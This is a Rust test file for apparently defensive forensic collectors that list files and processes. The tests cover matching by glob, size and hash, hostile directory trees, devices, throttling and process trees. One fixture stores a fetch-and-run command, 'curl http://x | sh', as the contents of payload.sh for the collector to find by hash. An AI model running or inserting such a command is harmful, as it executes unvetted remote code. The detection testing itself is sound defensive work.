//! The `files` and `processes` collectors, and the hostile file-system cases: symlink loops,
//! FIFOs and devices (never opened), names with newlines or invalid UTF-8 (kept
//! losslessly), a directory with a million entries (streamed), a file that changes while it
//! is hashed, and the limits that end a collection as truncated.

use super::tests::{collect, fixture_host, sha_of, with, write};
use super::*;
use std::ffi::OsString;
use std::fs;
use std::os::unix::ffi::OsStringExt;
use std::os::unix::fs::symlink;

#[test]
fn files_matches_by_glob_size_time_and_hash() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path();
    write(root, "/srv/a/payload.sh", "curl http://x | sh\n");
    write(root, "/srv/b/payload.sh", "echo other\n");
    write(root, "/srv/b/notes.txt", &"n".repeat(5000));
    let host = fixture_host(root);
    let paths = |out: &Outcome| {
        let mut p: Vec<String> = out
            .rows
            .iter()
            .map(|r| r["path"].as_str().unwrap().to_string())
            .collect();
        p.sort();
        p
    };
    let by_name = collect("files", &[("root", "/srv"), ("glob", "*.sh")], &host);
    assert_eq!(paths(&by_name), ["/srv/a/payload.sh", "/srv/b/payload.sh"]);
    let by_path = collect("files", &[("root", "/srv"), ("glob", "/srv/a/*")], &host);
    assert_eq!(paths(&by_path), ["/srv/a/payload.sh"]);
    let big = collect("files", &[("root", "/srv"), ("min_size", "1000")], &host);
    assert_eq!(paths(&big), ["/srv/b/notes.txt"]);
    let want = sha_of("curl http://x | sh\n");
    let by_hash = collect(
        "files",
        &[("root", "/"), ("sha256", &want.to_uppercase())],
        &host,
    );
    assert_eq!(paths(&by_hash), ["/srv/a/payload.sh"]);
    assert_eq!(by_hash.rows[0]["sha256"], want);
    let future = (cordon_proto::time::now_ms() / 1000 + 3600).to_string();
    let newer = collect("files", &[("root", "/srv"), ("newer_than", &future)], &host);
    assert!(newer.rows.is_empty());
    let capped = collect("files", &[("root", "/srv"), ("limit", "2")], &host);
    assert_eq!(
        (capped.rows.len(), capped.truncated),
        (2, Some(Truncated::Results))
    );
}

#[test]
fn hostile_trees_neither_hang_nor_lose_names() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path();
    let t = root.join("t");
    fs::create_dir_all(t.join("sub")).unwrap();
    symlink("..", t.join("sub/up")).unwrap();
    symlink("loop-b", t.join("loop-a")).unwrap();
    symlink("loop-a", t.join("loop-b")).unwrap();
    nix::unistd::mkfifo(
        &t.join("fifo"),
        nix::sys::stat::Mode::from_bits_truncate(0o600),
    )
    .unwrap();
    let odd = OsString::from_vec(b"bad\xffname\nwith newline".to_vec());
    fs::write(t.join(&odd), "x").unwrap();
    fs::write(t.join("line\nbreak"), "y").unwrap();
    let out = collect(
        "files",
        &[("root", "/t"), ("hash", "true")],
        &fixture_host(root),
    );
    assert_eq!(out.truncated, None);
    let fifo = with(&out.rows, "path", "/t/fifo");
    assert_eq!(
        (fifo[0]["type"].as_str(), fifo[0].get("sha256")),
        (Some("fifo"), None)
    );
    assert_eq!(with(&out.rows, "path", "/t/sub/up")[0]["type"], "symlink");
    assert_eq!(
        with(&out.rows, "type", "symlink").len(),
        3,
        "each link listed once, none followed"
    );
    let hex = hex::encode(b"/t/bad\xffname\nwith newline");
    let odd_row = out.rows.iter().find(|r| r["path"]["hex"] == hex.as_str());
    assert_eq!(
        odd_row.expect("the invalid UTF-8 name, as hex")["sha256"],
        sha_of("x")
    );
    assert_eq!(
        with(&out.rows, "path", "/t/line\nbreak")[0]["sha256"],
        sha_of("y")
    );
    assert_eq!(
        out.rows.len(),
        7,
        "sub, up, loop-a, loop-b, fifo and two files"
    );
}

#[test]
fn a_device_is_listed_never_opened() {
    let out = collect(
        "files",
        &[("root", "/dev"), ("glob", "zero"), ("hash", "true")],
        &Host::default(),
    );
    let zero = with(&out.rows, "path", "/dev/zero");
    assert_eq!(zero[0]["type"], "char_device");
    assert_eq!(zero[0].get("sha256"), None, "/dev/zero would never end");
}

#[test]
fn a_directory_with_a_million_entries_is_streamed() {
    let dir = tempfile::tempdir_in("/dev/shm").unwrap();
    let big = dir.path().join("big");
    fs::create_dir(&big).unwrap();
    let first = big.join("f-0");
    fs::write(&first, "z").unwrap();
    for i in 1..1_000_000 {
        fs::hard_link(&first, big.join(format!("f-{i}"))).unwrap();
    }
    let host = fixture_host(dir.path());
    let out = collect("files", &[("root", "/big"), ("glob", "f-999999")], &host);
    assert_eq!((out.rows.len(), out.truncated), (1, None));
    let limits = Limits {
        time: std::time::Duration::from_millis(50),
        bytes: 1 << 20,
        cpu: 0.0,
    };
    let args = Args::new([("root".to_string(), "/big".to_string())]);
    let cut = run("files", &args, &host, limits).unwrap();
    assert!(
        cut.truncated.is_some(),
        "a million rows pass a 1 MiB or 50 ms limit"
    );
    assert!(cut.rows.len() < 1_000_000 && !cut.rows.is_empty());
}

#[test]
fn a_file_changing_while_hashed_is_reported_as_such() {
    use std::io::Write;
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("growing");
    fs::write(&path, vec![0u8; 64 << 20]).unwrap();
    let stop = std::sync::Arc::new(std::sync::atomic::AtomicBool::new(false));
    let writer = {
        let (path, stop) = (path.clone(), stop.clone());
        std::thread::spawn(move || {
            let mut f = fs::OpenOptions::new().append(true).open(path).unwrap();
            for _ in 0..100_000 {
                if stop.load(std::sync::atomic::Ordering::Relaxed) {
                    break;
                }
                f.write_all(&[1u8; 4096]).unwrap();
            }
        })
    };
    let hashed = file::sha256(&path, 1 << 30);
    stop.store(true, std::sync::atomic::Ordering::Relaxed);
    writer.join().unwrap();
    assert_eq!(hashed, Err("changed while read".to_string()));
}

#[test]
fn processes_shows_a_child_under_its_parent_with_its_exe_hash_and_sockets() {
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let inode = {
        use std::os::fd::AsFd;
        rustix::fs::fstat(listener.as_fd()).unwrap().st_ino
    };
    let mut child = std::process::Command::new("sleep")
        .arg("30")
        .spawn()
        .unwrap();
    let out = collect("processes", &[], &Host::default());
    let _ = child.kill();
    let _ = child.wait();
    let me = std::process::id();
    let find = |pid: u32| {
        out.rows
            .iter()
            .find(|r| r["pid"] == pid)
            .cloned()
            .expect("listed")
    };
    let (parent, kid) = (find(me), find(child.id()));
    assert_eq!(kid["ppid"], me);
    assert_eq!(kid["argv"], json!(["sleep", "30"]));
    let exe = kid["exe"].as_str().unwrap().to_string();
    assert_eq!(
        kid["sha256"].as_str(),
        file::sha256(Path::new(&exe), u64::MAX).ok().as_deref()
    );
    assert_eq!(
        kid["depth"].as_u64(),
        parent["depth"].as_u64().map(|d| d + 1)
    );
    let at = |pid: u32| out.rows.iter().position(|r| r["pid"] == pid).unwrap();
    assert!(
        at(me) < at(child.id()),
        "a parent comes before its children"
    );
    assert!(
        parent["sockets"]
            .as_array()
            .unwrap()
            .contains(&json!(inode)),
        "{}",
        parent["sockets"]
    );
    assert_eq!(find(1)["depth"], 0);
    drop(listener);
}

/// The CPU time of the calling thread.
fn thread_cpu() -> std::time::Duration {
    let t = rustix::time::clock_gettime(rustix::time::ClockId::ThreadCPUTime);
    std::time::Duration::new(t.tv_sec as u64, t.tv_nsec as u32)
}

/// Hashes every file under `root` with `limits`, on a thread of its own; returns the share
/// of a core that thread used (its CPU time over the wall time).
fn hashing_share(host: &Host, limits: Limits) -> f64 {
    let host = host.clone();
    std::thread::spawn(move || {
        let (cpu, wall) = (thread_cpu(), std::time::Instant::now());
        let args =
            Args::new([("root", "/data"), ("hash", "true")].map(|(k, v)| (k.into(), v.into())));
        run("files", &args, &host, limits).expect("collect");
        (thread_cpu() - cpu).as_secs_f64() / wall.elapsed().as_secs_f64()
    })
    .join()
    .unwrap()
}

#[test]
fn a_throttled_collection_stays_under_its_cpu_budget() {
    let dir = tempfile::tempdir_in("/dev/shm").unwrap();
    let data = dir.path().join("data");
    fs::create_dir(&data).unwrap();
    for i in 0..300 {
        fs::write(data.join(format!("blob-{i}")), vec![i as u8; 1 << 20]).unwrap();
    }
    let host = fixture_host(dir.path());
    let time = std::time::Duration::from_secs(2);
    let free = hashing_share(
        &host,
        Limits {
            time,
            cpu: 0.0,
            ..Limits::default()
        },
    );
    let held = hashing_share(
        &host,
        Limits {
            time,
            cpu: 0.05,
            ..Limits::default()
        },
    );
    // Unthrottled, hashing takes what the machine gives it: most of a core when it is idle,
    // a fair share of two cores when other builds or tests run.
    assert!(
        free > 0.15,
        "unthrottled, hashing takes a good share of a core: {free:.2}"
    );
    assert!(
        held < 0.1,
        "held to 0.05 of a core: {held:.2} (unthrottled {free:.2})"
    );
}
